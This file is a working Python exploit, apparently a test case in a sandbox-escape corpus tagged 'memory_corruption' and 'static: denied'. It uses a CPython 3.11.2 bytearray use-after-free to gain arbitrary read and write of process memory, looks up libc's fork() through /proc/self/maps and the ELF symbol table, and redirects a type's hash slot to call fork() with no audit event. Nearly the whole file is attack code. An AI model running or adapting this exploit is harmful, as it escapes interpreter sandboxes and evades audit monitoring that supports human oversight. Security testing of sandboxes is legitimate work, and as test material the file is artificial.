# family: memory_corruption
# reaches: process
# layer: runtime
# static: denied
# CPython 3.11.2's bytearray item assignment calls the value's __index__ after it read the buffer
# pointer (GH-91153): an __index__ that frees the buffer and allocates a new, empty bytearray in
# its place makes the write land in that bytearray's size field. The result is a bytearray of
# size 2**56 starting at address 0: arbitrary read and write of the process memory, in pure
# Python. Pointing a type's tp_hash slot at libc's fork() then forks from hash(), with no audit
# event at all; only the kernel filter is left in the way.
import os
import struct


class Shrink:
    def __index__(self):
        global memory
        victim.clear()
        memory = bytearray()  # its object lands in the buffer just freed
        victim.extend([0] * 56)
        return 1


memory = bytearray()
for attempt in range(20):
    victim = bytearray(56)
    victim[23] = Shrink()
    if len(memory):
        break


def libc_function(name):
    for line in open("/proc/self/maps"):
        f = line.split()
        if len(f) >= 6 and "/libc.so" in f[5] and int(f[2], 16) == 0:
            base, path = int(f[0].split("-")[0], 16), f[5]
            break
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    for s in sections:
        if s[1] == 11:
            strtab = sections[s[6]][4]
            for off in range(s[4], s[4] + s[5], 24):
                st_name, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, off)
                start = strtab + st_name
                if data[start:data.index(b"\0", start)] == name:
                    return base + value


class Token:
    def __hash__(self):
        return 1


TP_HASH = 15 * 8  # offset of tp_hash in PyTypeObject (3.11, x86-64)
memory[id(Token) + TP_HASH:id(Token) + TP_HASH + 8] = struct.pack("<Q", libc_function(b"fork"))
pid = hash(Token())  # calls libc's fork() directly: no audit event
if pid == 0:
    os._exit(0)
print("forked", pid, os.waitpid(pid, 0))
